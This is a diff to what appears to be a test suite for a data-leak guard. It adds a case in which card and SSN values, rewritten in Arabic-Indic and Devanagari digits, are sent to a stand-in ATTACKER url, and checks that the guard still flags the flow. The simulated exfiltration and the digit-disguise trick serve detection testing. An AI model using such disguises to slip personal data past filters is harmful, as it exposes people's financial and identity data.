@@ -67,4 +67,10 @@ describe("guard with flow tracking on disguised values", () => {
     expect(await send({ iban: "DE89 3704 0044 0532 0130 00" }, { url: ATTACKER, bank: "DE89 3704 0044", account: "0532 0130 00" })).toContain(FLOW);
     expect(await send({ card: "4111 1111 1111 1111" }, { url: ATTACKER, a: "1111 1111", b: "4111 1111" })).toContain(FLOW);
   });
+
+  it("sees a card in Arabic-Indic digits and an SSN in Devanagari digits", async () => {
+    const script = (zero: number, digits: string) => digits.replace(/[0-9]/g, (d) => String.fromCharCode(zero + Number(d)));
+    expect(await send({ card: "4111 1111 1111 1111" }, { url: ATTACKER, body: script(0x660, "4111111111111111") })).toContain(FLOW);
+    expect(await send({ ssn: "219-09-9991" }, { url: ATTACKER, body: script(0x966, "219-09-9991") })).toContain(FLOW);
+  });
 });
